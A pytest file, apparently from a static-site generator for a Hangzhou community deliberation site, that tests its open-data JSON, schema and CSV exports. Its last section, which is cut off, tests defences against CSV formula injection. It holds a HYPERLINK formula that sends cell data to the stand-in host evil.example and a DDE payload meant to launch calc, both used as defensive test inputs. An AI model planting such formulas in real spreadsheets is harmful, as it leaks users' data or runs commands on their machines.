"""The open data (台账): what a program or a spreadsheet receives from ``/data/`` (the complete
site's "now" is 2025-06-15 10:00 Asia/Shanghai)."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from contextlib import nullcontext
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from browser.gates import PAGE_BUDGET, page_weight, url_of
from conftest import BUNDLED_NOW, COMPLETE, COMPLETE_NOW, ROOT, build_complete, newtype_model
from jsonschema import Draft202012Validator, FormatChecker
from markupsafe import escape

from gongshi.content.codes import Codes
from gongshi.content.fields import front_matter_fields
from gongshi.content.models import ITEM_TYPES, Meeting, Outcome, Project
from gongshi.outputs.opendata import board
from gongshi.outputs.opendata.declarations import (
    OCD_MAPPED,
    OMITTED,
    data_files,
    json_field,
    tables,
)
from gongshi.outputs.opendata.schemas import file_schema, rows
from gongshi.publish.run import load_settings
from gongshi.settings import from_pelican
from gongshi.site import urls
from gongshi.site.load import load_site

COMPLETE_URL = "https://yishi.xihu.example.cn"
NAMES = ["meetings", "outcomes", "projects", "cases", "places"]
SITES = {"complete": (COMPLETE, COMPLETE_NOW), "bundled": (ROOT, BUNDLED_NOW)}
BOM = b"\xef\xbb\xbf"
RFC3339 = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})$")


def _uri(value: object) -> bool:
    parts = urlsplit(str(value))
    return parts.scheme in ("http", "https") and bool(parts.netloc)


# jsonschema checks "date" itself; "date-time" and "uri" need packages Gongshi does not pin, so
# they are checked here, strictly (RFC 3339 with an offset; absolute http(s) URLs).
FORMATS = FormatChecker()
FORMATS.checks("date-time")(lambda value: not isinstance(value, str) or bool(RFC3339.match(value)))
FORMATS.checks("uri")(lambda value: not isinstance(value, str) or _uri(value))


@pytest.fixture(params=sorted(SITES))
def built(request: pytest.FixtureRequest):
    """(built site, its index, its settings): the complete test site and the bundled one."""
    folder, now = SITES[request.param]
    raw = load_settings(folder / "pelicanconf.py", {"GONGSHI_NOW": now})
    settings = from_pelican(raw)
    index = load_site(Path(raw["PATH"]), settings)
    return request.getfixturevalue(f"{request.param}_site"), index, settings


def load(site: Path, path: str) -> Any:
    return json.loads((site / path.lstrip("/")).read_text(encoding="utf-8"))


def items(site: Path, name: str) -> dict[str, dict[str, Any]]:
    """The items of a data file by id: every file carries ``id`` at the top of each item."""
    return {i["id"]: i for i in load(site, f"/data/{name}.json")["items"]}


def read_csv(site: Path, name: str) -> list[list[str]]:
    text = (site / "data" / f"{name}.csv").read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.fixture
def meetings(complete_site: Path) -> dict[str, dict[str, Any]]:
    return items(complete_site, "meetings")


@pytest.fixture
def outcomes(complete_site: Path) -> dict[str, dict[str, Any]]:
    return items(complete_site, "outcomes")


@pytest.fixture
def projects(complete_site: Path) -> dict[str, dict[str, Any]]:
    return items(complete_site, "projects")


# -- every file, both sites ----------------------------------------------------------------------


def test_the_format_checks_are_real() -> None:
    schema = {"type": "string", "format": "date-time"}
    validator = Draft202012Validator(schema, format_checker=FORMATS)
    assert validator.is_valid("2025-06-15T10:00:00+08:00")
    assert not validator.is_valid("2025-06-15 10:00")
    assert not validator.is_valid("2025-06-15T10:00:00")  # no offset
    assert not Draft202012Validator({"format": "date"}, format_checker=FORMATS).is_valid("2025-6-1")


@pytest.mark.parametrize("name", NAMES)
def test_every_json_file_validates_against_its_schema(built, name: str) -> None:
    site, _, settings = built
    schema = load(site, f"/data/schema/{name}.schema.json")
    Draft202012Validator.check_schema(schema)
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert schema["$id"] == f"{settings.site_url}/data/schema/{name}.schema.json"
    data = load(site, f"/data/{name}.json")
    errors = Draft202012Validator(schema, format_checker=FORMATS).iter_errors(data)
    assert [f"{list(e.absolute_path)}: {e.message}" for e in errors] == []
    assert data["schema"] == schema["$id"]


def test_counts_match_the_index_and_items_keep_its_order(built) -> None:
    site, index, _ = built
    for name, published in [
        ("meetings", index.items("meeting")),
        ("outcomes", index.items("outcome")),
        ("projects", index.items("project")),
        ("cases", index.items("case")),
        ("places", tuple(index.places)),
    ]:
        data = load(site, f"/data/{name}.json")
        assert data["count"] == len(data["items"]) == len(published) > 0
        assert list(items(site, name)) == [i.id for i in published]


def test_the_files_say_where_and_when_they_come_from(complete_site: Path) -> None:
    data = load(complete_site, "/data/outcomes.json")
    assert {k: v for k, v in data.items() if k != "items"} == {
        "site_name": "西湖区社区议事协商公开栏",
        "site_url": f"{COMPLETE_URL}/",
        "publisher": "灵隐街道办事处、双浦镇人民政府（测试）",
        "generated": "2025-06-15T10:00:00+08:00",
        "schema": f"{COMPLETE_URL}/data/schema/outcomes.schema.json",
        "documentation": f"{COMPLETE_URL}/data/outcomes/",  # the file's own page
        "count": 8,
    }


def test_complete_site_counts(complete_site: Path) -> None:
    counts = {name: load(complete_site, f"/data/{name}.json")["count"] for name in NAMES}
    assert counts == {"meetings": 7, "outcomes": 8, "projects": 5, "cases": 2, "places": 6}


def test_drafts_are_nowhere_in_the_data(complete_site: Path) -> None:
    for path in sorted((complete_site / "data").rglob("*")):
        if path.is_file():
            text = path.read_bytes().decode("utf-8-sig")
            assert "草稿不应出现" not in text and "2025-06-30-lingshan-draft" not in text, path


@pytest.mark.parametrize("name", NAMES)
def test_json_is_written_deterministically(complete_site: Path, name: str) -> None:
    for path in (f"data/{name}.json", f"data/schema/{name}.schema.json"):
        text = (complete_site / path).read_text(encoding="utf-8")
        canonical = json.dumps(json.loads(text), ensure_ascii=False, sort_keys=True, indent=1)
        assert text == canonical + "\n"


# -- meetings as Open Civic Data events ----------------------------------------------------------


@pytest.mark.parametrize(
    ("meeting", "state", "status"),
    [
        ("2025-06-20-yuquan-parking", "upcoming", "confirmed"),
        ("2025-06-08-lingyin-garbage", "postponed", "tentative"),
        ("2025-05-20-tongjianhu-noise", "held", "passed"),
        ("2025-06-10-lingshan-water", "unrecorded", "passed"),
        ("2025-06-28-tongjianhu-greening", "cancelled", "cancelled"),
    ],
)
def test_meeting_status_follows_open_civic_data(meetings, meeting, state, status) -> None:
    assert meetings[meeting]["status"] == status
    assert meetings[meeting]["extras"]["state"] == state


def test_a_meeting_is_an_open_civic_data_event(meetings) -> None:
    m = meetings["2025-06-20-yuquan-parking"]
    assert m["name"] == "玉泉社区停车难问题议事协商会"
    assert m["start_date"] == "2025-06-20T14:30:00+08:00"
    assert m["end_date"] == "2025-06-20T16:00:00+08:00"
    assert m["location"] == {"name": "玉泉社区党群服务中心二楼议事厅"}
    assert m["agenda"] == [
        {"description": "夜间停车位错峰共享方案", "order": 1},
        {"description": "消防通道占用整治", "order": 2},
        {"description": "非机动车停放区域划定", "order": 3},
    ]
    assert m["participants"][:3] == [
        {"name": "两委", "type": "committee", "note": "3 人"},  # no name: the role's label
        {"name": "玉泉社区业主委员会", "type": "owners", "note": "2 人"},
        {"name": "杭州某物业服务有限公司", "type": "property", "note": None},
    ]
    assert len(m["participants"]) == 13
    url = f"{COMPLETE_URL}/meetings/2025-06-20-yuquan-parking/"
    assert [s["url"] for s in m["sources"]] == [url]
    assert (m["id"], m["url"]) == ("2025-06-20-yuquan-parking", url)  # at the top, as elsewhere
    extras = m["extras"]
    assert "id" not in extras and "url" not in extras
    assert extras["places"] == [
        {"id": "yuquan", "url": f"{COMPLETE_URL}/places/yuquan/", "title": "玉泉社区"}
    ]
    assert extras["attend"] == {
        "how": "到社区党群服务中心一楼窗口登记，或拨打12345留言说明",
        "deadline": "2025-06-18",
    }
    assert (extras["status"], extras["format"], extras["date"]) == (
        "scheduled",
        "meeting",
        "2025-06-10",
    )
    assert (extras["convener"], extras["recorder"]) == ("玉泉社区党委", "玉泉社区居委会工作人员")
    assert extras["tags"] == ["停车", "公示", "消防通道"]
    assert "欢迎居民报名参加" in extras["summary"]
    assert extras["body_html"].startswith("<p>")


def test_a_meeting_with_only_required_fields_writes_null_and_empty_lists(meetings) -> None:
    m = meetings["2025-06-25-lingshan-road"]
    assert (m["end_date"], m["participants"]) == (None, [])
    assert m["agenda"] == [{"description": "村道拓宽涉及的占地协调", "order": 1}]
    extras = m["extras"]
    for name in ("host", "recorder", "format", "attend", "summary", "updated"):
        assert extras[name] is None, name
    assert extras["tags"] == extras["changes"] == extras["outcomes"] == extras["cases"] == []


def test_a_postponement_keeps_its_change_note(meetings) -> None:
    m = meetings["2025-06-08-lingyin-garbage"]
    assert m["start_date"] == "2025-06-22T14:00:00+08:00"  # the new time
    assert m["extras"]["updated"] == "2025-06-06"
    assert [c["date"] for c in m["extras"]["changes"]] == ["2025-06-06"]
    assert "延期至6月22日" in m["extras"]["changes"][0]["note"]


# -- references both ways ------------------------------------------------------------------------


def link(folder: str, item_id: str, title: str) -> dict[str, str]:
    return {"id": item_id, "url": f"{COMPLETE_URL}/{folder}/{item_id}/", "title": title}


def test_references_are_ids_with_absolute_urls(outcomes, projects) -> None:
    whistle = outcomes["2025-05-20-noise-whistle"]
    assert whistle["meetings"] == [
        link("meetings", "2025-05-20-tongjianhu-noise", "铜鉴湖社区工地夜间施工扰民现场议事会")
    ]
    assert whistle["project"] is None
    pool = outcomes["2025-05-28-elevator-pool"]
    assert pool["project"] == link("projects", "yuquan-elevator", "玉泉社区3号楼加装电梯")
    assert outcomes["2025-04-18-elevator-hotline-pool"]["meetings"] == []
    elevator = projects["yuquan-elevator"]
    assert [o["id"] for o in elevator["outcomes"]] == [
        "2025-05-28-elevator-pool",
        "2025-04-18-elevator-hotline-pool",
    ]  # derived from the outcomes' `project`, newest first
    assert [c["id"] for c in elevator["cases"]] == ["yuquan-elevator-story"]
    assert projects["tongjianhu-pocket-park"]["outcomes"] == []


def test_a_meeting_lists_its_outcomes_and_cases(meetings) -> None:
    extras = meetings["2025-05-20-tongjianhu-noise"]["extras"]
    assert sorted(o["id"] for o in extras["outcomes"]) == [
        "2025-05-20-noise-declined",
        "2025-05-20-noise-onsite",
        "2025-05-20-noise-referred",
        "2025-05-20-noise-whistle",
    ]
    assert extras["cases"] == [
        link(
            "cases",
            "tongjianhu-night-construction",
            "工地围挡外的露天议事会：铜鉴湖社区化解施工扰民",
        )
    ]


def _links(value: Any) -> list[dict[str, str]]:
    """Every link object anywhere in a JSON value."""
    if isinstance(value, list):
        return [found for v in value for found in _links(v)]
    if isinstance(value, dict):
        here = [value] if set(value) == {"id", "url", "title"} else []
        return here + [found for v in value.values() for found in _links(v)]
    return []


def _objects(value: Any) -> list[dict[str, Any]]:
    """Every object anywhere in a JSON value."""
    if isinstance(value, list):
        return [found for v in value for found in _objects(v)]
    if isinstance(value, dict):
        return [value, *(found for v in value.values() for found in _objects(v))]
    return []


def _json_files(site: Path) -> dict[str, Any]:
    return {
        p.name: json.loads(p.read_text(encoding="utf-8")) for p in (site / "data").glob("*.json")
    }


def test_every_item_of_every_file_carries_id_and_url_at_its_top(built) -> None:
    site, _, settings = built
    files = _json_files(site)
    assert {f"{name}.json" for name in NAMES} <= set(files)
    for name, data in files.items():
        for item in data.get("items", []):
            assert isinstance(item["id"], str) and item["url"].startswith(settings.site_url)
            assert item["url"].endswith(f"/{item['id']}/"), (name, item["id"])


def _unresolved(files: dict[str, Any]) -> list[str]:
    """Every reference of every file that does not name an item exactly: one shape everywhere,
    a reference is {id, url, title}, and the item it names — found by its url in whichever file
    holds it — has that very id and url, and that title (a meeting's Open Civic Data ``name``,
    a place's ``name``). Returns the problems, and fails if no reference was seen at all."""
    by_url = {item["url"]: item for data in files.values() for item in data.get("items", [])}
    assert len(by_url) == sum(len(data.get("items", [])) for data in files.values())  # unique
    problems, checked = [], 0
    for name, data in files.items():
        items_ = data.get("items", [])
        for obj in _objects(data):
            if "url" not in obj or obj is data or any(obj is item for item in items_):
                continue  # not a reference: the envelope, an item itself
            if set(obj) == {"url", "note"}:
                continue  # a meeting's Open Civic Data source (its own page)
            target = by_url.get(obj["url"], {})
            title = target.get("title", target.get("name"))
            if set(obj) != {"id", "url", "title"} or target.get("id") != obj["id"]:
                problems.append(f"{name}: {obj}")
            elif obj["title"] != title:
                problems.append(f"{name}: {obj} (title {title!r})")
            checked += 1
    assert checked > 0
    return problems


def test_every_reference_in_every_file_resolves_to_the_item_with_that_id_and_url(built) -> None:
    site, _, _ = built
    assert _unresolved(_json_files(site)) == []


def test_a_reference_naming_no_item_is_reported(complete_site: Path) -> None:
    files = _json_files(complete_site)
    outcome = files["outcomes.json"]["items"][0]
    outcome["meetings"][0]["id"] = "2025-01-01-elsewhere"  # the url names another id
    outcome["places"][0]["name"] = outcome["places"][0].pop("title")  # another shape
    files["places.json"]["items"][1]["jurisdiction"]["title"] = "别处街道"  # not its name
    problems = _unresolved(files)
    assert len(problems) == 3, problems
    for found in ("2025-01-01-elsewhere", "'name'", "别处街道"):
        assert sum(found in problem for problem in problems) == 1, (found, problems)


def test_every_link_leads_to_a_published_page(built) -> None:
    site, _, settings = built
    for name in NAMES:
        found = _links(load(site, f"/data/{name}.json")["items"])
        assert found
        for target in found:
            path = target["url"].removeprefix(settings.site_url)
            assert path.endswith(f"/{target['id']}/")
            assert (site / path.lstrip("/") / "index.html").is_file(), target


def test_date_times_carry_the_sites_offset(built) -> None:
    site, _, _ = built
    for name in NAMES:
        text = (site / "data" / f"{name}.json").read_text(encoding="utf-8")
        times = re.findall(r'"(\d{4}-\d{2}-\d{2}T[^"]+)"', text)
        assert times and all(t.endswith(":00+08:00") for t in times), name


# -- places -----------------------------------------------------------------------------------


def test_places_json_is_the_place_tree(complete_site: Path) -> None:
    def ref(place_id: str, name: str) -> dict[str, str]:
        return {"id": place_id, "url": f"{COMPLETE_URL}/places/{place_id}/", "title": name}

    found = [
        (p["id"], p["name"], p["level"], p["kind"], p["district"], p["jurisdiction"],
         p["communities"], (p["address"], p["phone"], p["hours"]))
        for p in load(complete_site, "/data/places.json")["items"]
    ]  # fmt: skip
    lingyin, shuangpu = ref("lingyin", "灵隐街道"), ref("shuangpu", "双浦镇")
    assert found == [
        ("lingyin", "灵隐街道", "jurisdiction", "subdistrict", "西湖区", None,
         [ref("yuquan", "玉泉社区"), ref("lingfeng", "灵峰社区")],
         ("西湖区灵隐示例路 8 号（示例）", "0571-87001234", "周一至周五 8:30–12:00、14:00–17:30")),
        ("yuquan", "玉泉社区", "community", "community", "西湖区", lingyin, [],
         (None, "0571-87005678", "工作日 8:30–17:00")),
        ("lingfeng", "灵峰社区", "community", "community", "西湖区", lingyin, [], (None, None, None)),
        ("shuangpu", "双浦镇", "jurisdiction", "town", "西湖区", None,
         [ref("tongjianhu", "铜鉴湖社区"), ref("lingshan", "灵山村")], (None, None, None)),
        ("tongjianhu", "铜鉴湖社区", "community", "community", "西湖区", shuangpu, [],
         (None, None, None)),
        ("lingshan", "灵山村", "community", "village", "西湖区", shuangpu, [],
         ("灵山村村委会（示例）", None, None)),
    ]  # fmt: skip
    assert items(complete_site, "places")["yuquan"]["url"] == f"{COMPLETE_URL}/places/yuquan/"


def test_place_kinds_are_both_code_lists() -> None:
    schema = _item_schema("places")["properties"]
    assert schema["kind"]["enum"] == ["subdistrict", "town", "community", "village"]
    assert schema["level"]["enum"] == ["jurisdiction", "community"]
    assert schema["jurisdiction"]["anyOf"][0] == {"$ref": "#/$defs/place_link"}


# -- outcomes: overdue ---------------------------------------------------------------------------


def test_overdue_is_derived_from_the_deadline_and_now(outcomes) -> None:
    assert outcomes["2025-05-20-noise-whistle"]["overdue"] is True
    assert outcomes["2025-05-20-noise-whistle"]["deadline"] == "2025-06-10"
    assert outcomes["2025-05-28-elevator-gas-whistle"]["overdue"] is False
    assert [i for i, o in outcomes.items() if o["overdue"]] == ["2025-05-20-noise-whistle"]


def test_overdue_agrees_with_the_index(built) -> None:
    site, index, _ = built
    found = items(site, "outcomes")
    assert {o.id: index.is_overdue(o) for o in index.items("outcome")} == {
        i: o["overdue"] for i, o in found.items()
    }


# -- CSV for spreadsheets ------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["meetings", "projects", "outcomes", "milestones"])
def test_csv_opens_in_excel(built, name: str) -> None:
    site, _, _ = built
    raw = (site / "data" / f"{name}.csv").read_bytes()
    assert raw.startswith(BOM)
    assert raw.endswith(b"\r\n") and b"\n" not in raw.replace(b"\r\n", b"")  # CRLF row ends
    table = read_csv(site, name)
    header, body = table[0], table[1:]
    assert all(re.search(r"[\u4e00-\u9fff]", h) for h in header), header
    assert len(set(header)) == len(header)
    assert all(len(row) == len(header) for row in body)
    if name == "milestones":  # one row per milestone, in the order of the project list
        projects = items(site, "projects")
        expected = [p for p, project in projects.items() for _ in project["milestones"]]
        assert [row[0] for row in body] == expected and body
    else:
        assert len(body) == load(site, f"/data/{name}.json")["count"]
        assert [row[0] for row in body] == list(items(site, name))


def test_milestones_csv_has_one_row_per_milestone(complete_site: Path) -> None:
    assert read_csv(complete_site, "milestones") == [
        ["项目编号", "项目网址", "项目名称", "所属地点", "日期", "进展", "进度（%）"],
        *(
            [project, f"{COMPLETE_URL}/projects/{project}/", title, place, *rest]
            for project, title, place, rest in [
                ("yuquan-elevator", "玉泉社区3号楼加装电梯", "玉泉社区", ["2025-04-25", "纳入民心项目池", "0"]),
                ("yuquan-elevator", "玉泉社区3号楼加装电梯", "玉泉社区", ["2025-05-10", "完成结构安全评估", "15"]),
                ("yuquan-elevator", "玉泉社区3号楼加装电梯", "玉泉社区", ["2025-06-03", "立项并完成设计方案", "30"]),
                ("yuquan-elevator", "玉泉社区3号楼加装电梯", "玉泉社区", ["2025-06-12", "开工", "45"]),
                ("yuquan-elevator", "玉泉社区3号楼加装电梯", "玉泉社区", ["2025-06-14", "召开施工协调会", ""]),
                ("tongjianhu-pocket-park", "铜鉴湖社区口袋公园", "铜鉴湖社区", ["2025-03-01", "开工", "10"]),
                ("tongjianhu-pocket-park", "铜鉴湖社区口袋公园", "铜鉴湖社区", ["2025-04-15", "完成场地平整和步道铺设", "60"]),
                ("tongjianhu-pocket-park", "铜鉴湖社区口袋公园", "铜鉴湖社区", ["2025-05-30", "竣工并向居民开放", "100"]),
            ]
        ),
    ]  # fmt: skip


MEETING_COLUMNS = ["编号", "开始时间", "所属地点", "状态", "当前状态", "相关协商结果"]


def test_meetings_csv_has_one_row_per_meeting(complete_site: Path) -> None:
    header, *body = read_csv(complete_site, "meetings")
    assert header == [
        "编号", "网址", "标题", "发布日期", "所属地点", "摘要", "标签", "更新日期", "变更记录",
        "开始时间", "结束时间", "议事场所", "召集人", "主持人", "记录人", "协商形式", "协商议题",
        "参加人员（5+N）", "申请参加", "状态", "当前状态", "相关协商结果", "相关典型案例",
    ]  # fmt: skip
    rows_ = [dict(zip(header, row, strict=True)) for row in body]
    assert [[r[c] for c in MEETING_COLUMNS] for r in rows_] == [
        ["2025-05-20-tongjianhu-noise", "2025-05-20 19:00", "铜鉴湖社区", "已召开", "已召开",
         "2025-05-20-noise-referred；2025-05-20-noise-whistle；2025-05-20-noise-onsite；"
         "2025-05-20-noise-declined"],
        ["2025-05-28-yuquan-elevator", "2025-05-28 14:00", "玉泉社区", "已召开", "已召开",
         "2025-05-28-elevator-pool；2025-05-28-elevator-gas-whistle；2025-05-28-elevator-assembly"],
        ["2025-06-10-lingshan-water", "2025-06-10 15:00", "灵山村", "待召开",
         "会期已过，记录待更新", ""],  # the state: its start passed without a record
        ["2025-06-20-yuquan-parking", "2025-06-20 14:30", "玉泉社区", "待召开", "待召开", ""],
        ["2025-06-08-lingyin-garbage", "2025-06-22 14:00", "灵隐街道", "已延期", "已延期", ""],
        ["2025-06-25-lingshan-road", "2025-06-25 09:30", "灵山村", "待召开", "待召开", ""],
        ["2025-06-28-tongjianhu-greening", "2025-06-28 10:00", "铜鉴湖社区", "已取消", "已取消", ""],
    ]  # fmt: skip
    parking = rows_[3]
    assert parking["网址"] == f"{COMPLETE_URL}/meetings/2025-06-20-yuquan-parking/"
    assert parking["协商议题"] == "夜间停车位错峰共享方案；消防通道占用整治；非机动车停放区域划定"
    assert parking["申请参加"] == (
        "申请方式：到社区党群服务中心一楼窗口登记，或拨打12345留言说明，申请截止日期：2025-06-18"
    )
    assert parking["参加人员（5+N）"].startswith(
        "身份：两委，人数：3；身份：业主自治组织，名称：玉泉社区业主委员会，人数：2；"
    )


def test_projects_csv(complete_site: Path) -> None:
    header, *body = read_csv(complete_site, "projects")
    assert header[:3] == ["编号", "网址", "标题"]
    rows_ = {row[0]: dict(zip(header, row, strict=True)) for row in body}
    elevator = rows_["yuquan-elevator"]
    assert elevator["预算（元）"] == "720000"
    assert elevator["网址"] == f"{COMPLETE_URL}/projects/yuquan-elevator/"
    assert elevator["项目状态"] == "实施中"
    assert elevator["进度（%）"] == "45"
    assert elevator["类别（七有五性）"] == "老有所养；住有所居；弱有所扶；便利性"
    assert elevator["所属地点"] == "玉泉社区"
    assert elevator["开工日期"] == "2025-06-03"
    assert elevator["相关协商结果"] == "2025-05-28-elevator-pool；2025-04-18-elevator-hotline-pool"
    assert rows_["lingshan-clinic-upgrade"]["预算（元）"] == "380000"
    assert rows_["lingshan-elderly-canteen"]["预算（元）"] == ""
    park = rows_["tongjianhu-pocket-park"]
    assert park["里程碑"].split("；")[0] == "日期：2025-03-01，进展：开工，进度（%）：10"
    assert park["完成日期"] == "2025-05-30"
    assert not any("万" in cell for row in body for cell in row)


def test_outcomes_csv(complete_site: Path) -> None:
    header, *body = read_csv(complete_site, "outcomes")
    rows_ = {row[0]: dict(zip(header, row, strict=True)) for row in body}
    whistle = rows_["2025-05-20-noise-whistle"]
    assert whistle["办理途径"] == "吹哨报到"
    assert whistle["办理状态"] == "办理中"
    assert whistle["办理时限"] == "2025-06-10"
    assert whistle["是否逾期"] == "是"
    assert whistle["议事会"] == "2025-05-20-tongjianhu-noise"
    assert whistle["网址"] == f"{COMPLETE_URL}/outcomes/2025-05-20-noise-whistle/"
    assert rows_["2025-05-28-elevator-gas-whistle"]["是否逾期"] == "否"
    assert rows_["2025-05-28-elevator-pool"]["民心项目"] == "yuquan-elevator"


# -- the schema is generated from the declarations ------------------------------------------------


def _item_schema(name: str, site_url: str = COMPLETE_URL, **settings: Any) -> dict[str, Any]:
    built = from_pelican({"SITEURL": site_url, "GONGSHI_NOW": COMPLETE_NOW, **settings})
    data_file = next(f for f in data_files() if f.name == name)
    schema = file_schema(data_file, built.codes, built.site_url)
    item: dict[str, Any] = schema["properties"]["items"]["items"]
    return item


@pytest.mark.parametrize("cls", ITEM_TYPES, ids=lambda cls: cls.__name__)
def test_every_model_field_is_in_its_schema(cls: type) -> None:
    item = _item_schema(cls.folder)
    own = item["properties"]["extras"] if cls is Meeting else item
    for f in front_matter_fields(cls):
        if f.name in OMITTED or (cls is Meeting and f.name in OCD_MAPPED):
            continue
        assert f.name in own["properties"], f.name
        assert own["properties"][f.name]["title"]  # the field's Chinese label
        assert f.name in own["required"]
    assert own["additionalProperties"] is False


def test_code_fields_are_enums_of_the_builds_code_lists() -> None:
    route = _item_schema("outcomes")["properties"]["route"]
    assert route["enum"] == ["onsite", "assembly", "referred", "whistle", "pool", "declined"]
    assert route["title"] == "办理途径" and "whistle（吹哨报到）" in route["description"]
    plain = _item_schema("projects")["properties"]["categories"]["items"]["enum"]
    extended = _item_schema(
        "projects", GONGSHI_CODES={"project_category": {"greening": "绿化美化"}}
    )["properties"]["categories"]
    assert "greening" not in plain
    assert extended["items"]["enum"] == [*plain, "greening"]
    assert "greening（绿化美化）" in extended["description"]


def test_kinds_map_to_json_schema() -> None:
    p = _item_schema("projects")["properties"]
    assert p["title"]["type"] == "string" and p["title"]["minLength"] == 1
    assert p["progress"]["anyOf"] == [
        {"type": "integer", "minimum": 0, "maximum": 100},
        {"type": "null"},
    ]
    assert p["budget"]["anyOf"][0] == {"type": "number", "minimum": 0}
    assert p["start"]["anyOf"][0] == {"type": "string", "format": "date"}
    assert p["milestones"]["items"]["additionalProperties"] is False
    assert p["milestones"]["items"]["required"] == ["date", "text", "progress"]
    m = _item_schema("meetings")["properties"]
    assert m["start_date"] == {"title": "开始时间", "type": "string", "format": "date-time"}
    assert m["extras"]["properties"]["places"]["minItems"] == 1
    assert m["extras"]["properties"]["places"]["items"] == {"$ref": "#/$defs/place_link"}
    assert m["status"]["enum"] == ["confirmed", "tentative", "passed", "cancelled"]


# -- the /data/ page ------------------------------------------------------------------------------


def _complete_codes() -> Codes:
    raw = load_settings(COMPLETE / "pelicanconf.py", {"GONGSHI_NOW": COMPLETE_NOW})
    return from_pelican(raw).codes


def _doc_pages(site: Path, read_page) -> dict[str, str]:
    """Each data file's own documentation page, by file name (paths may break at dots)."""
    return {f.name: read_page(site, f.doc).replace(".<wbr>", ".") for f in data_files()}


def test_the_data_page_documents_every_file_and_field(complete_site: Path, read_page) -> None:
    overview = read_page(complete_site, "/data/").replace(".<wbr>", ".")
    pages = _doc_pages(complete_site, read_page)
    for data_file in data_files():
        html = pages[data_file.name]
        assert data_file.doc == f"/data/{data_file.name}/"
        assert f'href="{data_file.doc}"' in overview  # the overview links every file's page
        schema = load(complete_site, data_file.schema)
        for row in rows(schema["properties"]["items"]["items"], schema["$defs"]):
            cells = f"<code>{row.path}</code></th><td>{escape(row.type)}</td><td>{escape(row.text)}"
            assert cells in html, (data_file.name, row.path)  # every field, on its file's page
        for name in schema["properties"]:  # the envelope every file shares, on the overview
            assert f"<code>{name}</code>" in overview, name
        for url in (data_file.json, data_file.schema):
            assert f'href="{url}"' in overview and f'href="{url}"' in html
        assert schema["description"].endswith(f"说明见 {COMPLETE_URL}{data_file.doc}")
    for table in tables():
        html = pages[table.source]  # a CSV file is documented with the JSON file it repeats
        assert f'href="{table.path}"' in overview and f'href="{table.path}"' in html
        assert f'<caption id="columns-{table.name}">{table.name}.csv 的列（{table.each}）' in html
        for column in table.columns(_complete_codes()):
            header = f'<th scope="row">{escape(column.entry.spec.label)}</th>'
            assert f"{header}<td><code>{column.field}</code></td>" in html, column.field
    for cls in (Meeting, Outcome, Project):
        html = pages[cls.folder]
        for f in front_matter_fields(cls):
            if f.name not in OMITTED:  # a CSV column, with the JSON field it repeats
                assert f"<td><code>{json_field(cls, f.name)}</code></td>" in html
    meetings_page = pages["meetings"]
    assert "<td><code>extras.host</code></td>" in meetings_page
    assert "<td><code>name</code></td>" in meetings_page
    assert "<td><code>milestones[].text</code></td>" in pages["projects"]
    assert {cls.folder for cls in ITEM_TYPES} < set(pages)  # every type's file has its page
    assert "灵隐街道办事处、双浦镇人民政府（测试）" in overview  # who publishes the data
    assert "65001" in overview  # how to open the CSV in Excel


def test_the_data_pages_tables_are_accessible(complete_site: Path, read_page) -> None:
    region = r'<div class="table-scroll" role="region" aria-labelledby="([^"]+)" tabindex="0">'
    overview = read_page(complete_site, "/data/")
    assert len(re.findall(region, overview)) == overview.count("<table") == 1  # the envelope
    total = 0
    for data_file in data_files():
        html = read_page(complete_site, data_file.doc)
        regions = re.findall(region, html)
        csvs = [t for t in tables() if t.source == data_file.name]
        assert len(regions) == html.count("<table") == 1 + len(csvs), data_file.name
        for caption_id in regions:
            assert f'<caption id="{caption_id}">' in html
        assert '<th scope="col">字段</th>' in html and '<th scope="row">' in html
        total += len(regions)
    assert total == len(data_files()) + len(tables())  # every file's fields, every CSV's columns


def test_the_data_page_is_linked_and_listed(complete_site: Path, read_page) -> None:
    assert '<a href="/data/">开放数据</a>' in read_page(complete_site, "/")
    sitemap = (complete_site / "sitemap.xml").read_text(encoding="utf-8")
    assert f"<loc>{COMPLETE_URL}/data/</loc>" in sitemap
    for data_file in data_files():  # each file's page: in the plan, so in the sitemap too
        assert f"<loc>{COMPLETE_URL}{data_file.doc}</loc>" in sitemap
        page = read_page(complete_site, data_file.doc)
        assert '<a href="/data/">开放数据</a>' in page  # the way back to the overview


@pytest.mark.parametrize("site", ["complete", "newtype"])
def test_every_data_page_stays_well_under_the_page_budget(request, site: str) -> None:
    """Each file is documented on its own page, so a site with more types or more fields does
    not push one page over the budget the browser gates hold (HTML plus its stylesheets)."""
    output = request.getfixturevalue(f"{site}_site")
    pages = [url_of(output, p) for p in sorted((output / "data").rglob("*.html"))]
    with ITEM_TYPES.registered(newtype_model()) if site == "newtype" else nullcontext():
        expected = [urls.DATA, urls.BOARD_DATA, *(f.doc for f in data_files())]
    assert sorted(pages) == sorted(expected)  # the overview, the board's, one for each file
    assert (site == "newtype") == ("/data/complaints/" in pages)  # a new type's file: its page
    weights = {url: page_weight(output, url) for url in pages}
    assert {url: w for url, w in weights.items() if w > PAGE_BUDGET * 3 // 4} == {}


# -- no cell of any CSV file runs as a formula ----------------------------------------------------
PLACE = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")'
TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA = re.compile(r"[\s\x00-\x1f\u200b-\u200f\u2060\ufeff]*[=+\-@＝＋－＠﹦﹢﹣﹫]|[\t\r\n]")


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, path
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def test_every_text_cell_of_every_csv_is_guarded(tmp_path: Path) -> None:
    content = tmp_path / "content"
    shutil.copytree(COMPLETE / "content", content)
    _edit(content / "places.yaml", "{name: 玉泉社区,", "{name: '" + PLACE.replace("'", "''") + "',")
    _edit(
        content / "projects/yuquan-elevator.md", "title: 玉泉社区3号楼加装电梯", f'title: "{TITLE}"'
    )
    _edit(content / "projects/yuquan-elevator.md", "[加装电梯,", "['-加装电梯',")
    _edit(content / "outcomes/2025-05-28-elevator-pool.md", "title: 3号楼", "title: ＝3号楼")
    _edit(content / "projects/tongjianhu-pocket-park.md", "text: 开工,", "text: '+开工',")
    _edit(
